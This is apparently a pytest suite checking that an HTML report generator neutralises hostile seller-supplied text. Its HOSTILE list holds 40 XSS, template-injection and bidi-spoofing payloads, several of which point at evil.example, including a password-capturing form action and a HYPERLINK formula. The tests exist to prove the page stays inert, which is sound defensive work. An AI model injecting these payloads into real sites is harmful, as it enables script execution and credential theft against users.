"""The page is inert, whatever a seller wrote, and shows what was written."""

import dataclasses
import re

import numpy as np
import pytest
from compared import losers, passport, queries, scores_of, sweeps
from reports import DIM, Page, asked, listing, make_scored
from small import small_config

from m5jax.comparison.runs import ScoredRun
from m5jax.comparison.side_by_side import compared
from m5jax.report import comparison, html
from m5jax.report import page as report

MARKS = [f"payload {number}" for number in range(40)]
HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(//evil.example/a)}</style>",
    "</bdi></figure></section><h1>gone</h1>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)`",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/e>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://evil.example",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<form action=https://evil.example><input name=password>",
    "<!-- <script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "{{ self.__init__.__globals__ }}",
    "url(https://evil.example/a); background: red",
    "\u202egnp.exe \u2066hidden\u2069 \u200f",
    "nul \0 bell \a escape \x1b[31m",
    '=HYPERLINK("https://evil.example","x")',
    "a\u0300\u0301 מחיר ‏١٢٣‏ <b dir=rtl>",
]
assert len(HOSTILE) == len(MARKS)


def hostile_page(folder, texts):
    """A report in which every one of 40 texts stands in every place that a seller fills, and is shown."""
    one_hot = np.eye(DIM)

    def of(number, text, side=""):
        named = {"id": f"{side}id {text}", "title": f"title {text}", "category": (f"{number // 5:02} category {text}",)}
        fields = {"instance_id": text, "fields": ((f"name {text}", f"value {text}"),), "source": f"source {text}"}
        return listing(number, small_config(), present=("text", "table"), **named, **fields)

    gallery = [of(number, text) for number, text in enumerate(texts)]
    # Query i finds the gallery rows 5 i to 5 i + 4, the first of which has its category.
    queries = [of(5 * number, text, "query ") for number, text in enumerate(texts[::5])]
    rejections = [
        {"id": text, "reason": f"reason-{number // 3}", "detail": f"detail {text}", "line": number, "modality": "image"}
        | {"file": f"file {text}"}
        for number, text in enumerate(texts)
    ]
    vectors = {"gallery": one_hot[np.arange(40) // 5], "query": one_hot}
    splits = {"train": gallery, "gallery": gallery, "query": queries}
    config = small_config(
        evaluate__ks=(1, 5), evaluate__probe=False, evaluate__cluster=False, evaluate__sweeps=("missing_text",)
    )
    scored = asked(make_scored(folder, splits, config, rejections=rejections, vectors=vectors))
    report.write(scored)
    return Page(scored.folder.report.read_text(encoding="utf-8"))


def hostile_comparison(texts):
    """Runs of such names side by side, with the texts as categories, sources and settings."""
    kept = queries(np.arange(80) % 3 == 0, names=[f"group {text}" for text in texts])
    kept["groups"]["frequency"]["of"] = [n % 40 for n in range(80)]
    scores = {f"source/{text}/retrieval/category/fused/p@1": 0.5 for text in texts} | scores_of(kept)
    studies = {"losers": losers(kept), "sweeps": sweeps([0.9, 0.5, 0.1], name=f"missing_{texts[0]}")}
    studies["gap"] = {f"gap {text}": 0.5 for text in texts} | {"passport": passport(label=texts[1], sets=texts[2])}
    held = {f"retrieval/{text}": passport(protocol=text, digest=text) for text in texts}
    config = {"data": {f"setting {text}": text for text in texts}}
    runs = [ScoredRun(f"run {texts[n]}", texts[n], config if n else {}, scores, studies, held) for n in (0, 9, 36)]
    runs[1] = dataclasses.replace(runs[1], findings={"losers": {"skipped": texts[3]}})
    return Page(comparison.render(compared(runs, 0) | {"command": texts[4]}, [run.findings for run in runs]))


@pytest.fixture(scope="module", params=["report", "comparison"])
def both(request, tmp_path_factory):
    """A page of hostile texts and the same of harmless ones."""
    if request.param == "comparison":
        return hostile_comparison(HOSTILE), hostile_comparison(MARKS)
    return tuple(hostile_page(tmp_path_factory.mktemp("page"), texts) for texts in (HOSTILE, MARKS))


@pytest.fixture(scope="module")
def hostile(both):
    return both[0]


def test_hostile_text_makes_no_element_and_no_attribute(both):
    hostile, harmless = ([(tag, sorted(attributes)) for tag, attributes in page.elements] for page in both)
    assert hostile == harmless


def test_page_is_inert(hostile):
    tags, names = {tag for tag, _ in hostile.elements}, {name for _, values in hostile.elements for name in values}
    assert not tags & {"script", "iframe", "object", "embed", "base", "link", "form", "input", "foreignobject"}
    assert not [name for name in names if name.startswith("on")]
    (policy,) = [values["content"] for tag, values in hostile.elements if "http-equiv" in values]
    assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert all(re.fullmatch(r"data:image/jpeg;base64,[A-Za-z0-9+/=]+", source) for source in hostile.attributes("src"))
    links = [values["href"] for tag, values in hostile.elements if "href" in values and tag != "image"]
    assert all(re.fullmatch(r"#[a-z]+", link) for link in links)
    drawn = [values["href"] for tag, values in hostile.elements if tag == "image"]
    assert all(re.fullmatch(r"data:image/jpeg;base64,[A-Za-z0-9+/=]+", source) for source in drawn)
    for style in [*hostile.attributes("style"), hostile.styles]:
        assert "url" not in style
        assert "import" not in style


def test_hostile_text_is_shown(hostile):
    of_report = ("title", "id", "category", "value", "name", "source", "detail", "file")
    of_comparison = ("group", "setting", "gap")
    for text in HOSTILE:
        shown = html.clean(text)
        for place in of_report if "gallery" in hostile.ids("section") else of_comparison:
            assert f"{place} {shown}" in hostile.text, (place, text)


def test_no_character_changes_the_direction_or_the_meaning_of_the_text_around_it(hostile):
    assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", hostile.text)
    assert hostile.text.count("\ufffd") > 0
    isolated = [tag for tag, _ in hostile.elements].count("bdi")
    assert isolated > 40 * 5


def test_half_a_surrogate_pair_can_be_written():
    assert html.clean("a\ud800b").encode() == "a\ufffdb".encode()
